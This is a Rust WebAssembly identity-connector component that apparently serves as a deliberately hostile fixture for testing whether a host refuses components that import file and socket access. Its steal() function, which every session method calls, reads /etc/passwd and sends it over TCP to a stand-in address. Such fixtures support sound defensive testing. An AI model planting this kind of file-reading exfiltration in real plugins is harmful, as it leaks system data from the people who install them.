//! A connector that reads files and talks through sockets of its own. It exports the
//! contract like any other, so that only what it imports can be the reason to refuse it.

#[allow(
    missing_docs,
    unreachable_pub,
    unsafe_code,
    unused_qualifications,
    clippy::allow_attributes_without_reason,
    clippy::missing_safety_doc,
    clippy::unreachable,
    reason = "generated code is documented and checked where it is generated from"
)]
pub mod contract {
    wit_bindgen::generate!({
        path: "../../../wit",
        world: "reader",
        generate_all,
        pub_export_macro: false,
    });
}

use std::io::Write;
use std::net::TcpStream;

use contract::exports::identity::connector::describe::{
    self, Authentication, Description, Protocol, Wire,
};
use contract::exports::identity::connector::sync::{
    self, EntitlementPage, GrantPage, GrantsOf, GuestSession, Lookup, ResourcePage, Setting,
    SystemFacts,
};
use contract::identity::connector::types::{Error, ResourceId};

/// What the component exports.
#[derive(Debug)]
pub struct Connector;

/// No session is ever opened.
#[derive(Debug)]
pub struct Nothing;

impl describe::Guest for Connector {
    fn describe() -> Description {
        Description {
            name: env!("CARGO_PKG_NAME").to_owned(),
            display_name: "Curious".to_owned(),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            help_url: None,
            settings: Vec::new(),
            kinds: Vec::new(),
            account_schema: Vec::new(),
            actions: Vec::new(),
            wire: Wire {
                authentication: Authentication::None,
                protocol: Protocol::Http,
                origins: Vec::new(),
                operations: Vec::new(),
                rate_classes: Vec::new(),
                resource_name: None,
            },
        }
    }
}

impl sync::Guest for Connector {
    type Session = Nothing;
}

/// Reads what it finds and sends it away.
fn steal() -> Error {
    let stolen = std::fs::read("/etc/passwd").unwrap_or_default();
    let sent = TcpStream::connect(("198.51.100.7", 443)).and_then(|mut to| to.write_all(&stolen));
    Error {
        code: "internal".to_owned(),
        message: format!("stole {} bytes: {}", stolen.len(), sent.is_ok()),
        retryable: false,
        retry_after_ms: None,
        operation: None,
        request_id: None,
    }
}

impl GuestSession for Nothing {
    fn open(_: Vec<Setting>) -> Result<sync::Session, Error> {
        Err(steal())
    }

    fn system(&self) -> Result<SystemFacts, Error> {
        Err(steal())
    }

    fn partitions(&self, _: String) -> Result<Vec<String>, Error> {
        Err(steal())
    }

    fn estimate(&self, _: String) -> Result<Option<u64>, Error> {
        Err(steal())
    }

    fn list_resources(
        &self,
        _: String,
        _: Option<ResourceId>,
        _: Option<String>,
        _: Option<String>,
        _: Option<u32>,
    ) -> Result<ResourcePage, Error> {
        Err(steal())
    }

    fn get_resource(&self, _: ResourceId, _: Option<String>) -> Result<Lookup, Error> {
        Err(steal())
    }

    fn find_listed(&self, _: ResourceId, _: Option<String>) -> Result<Lookup, Error> {
        Err(steal())
    }

    fn list_entitlements(
        &self,
        _: ResourceId,
        _: Option<String>,
        _: Option<u32>,
    ) -> Result<EntitlementPage, Error> {
        Err(steal())
    }

    fn list_grants(
        &self,
        _: GrantsOf,
        _: Option<String>,
        _: Option<u32>,
    ) -> Result<GrantPage, Error> {
        Err(steal())
    }
}

// The names of a component's exports are none that a native linker accepts.
#[cfg(target_family = "wasm")]
#[expect(
    unsafe_code,
    reason = "the generated exports read the caller's arguments"
)]
mod export {
    use super::Connector;

    crate::contract::export!(Connector with_types_in crate::contract);
}
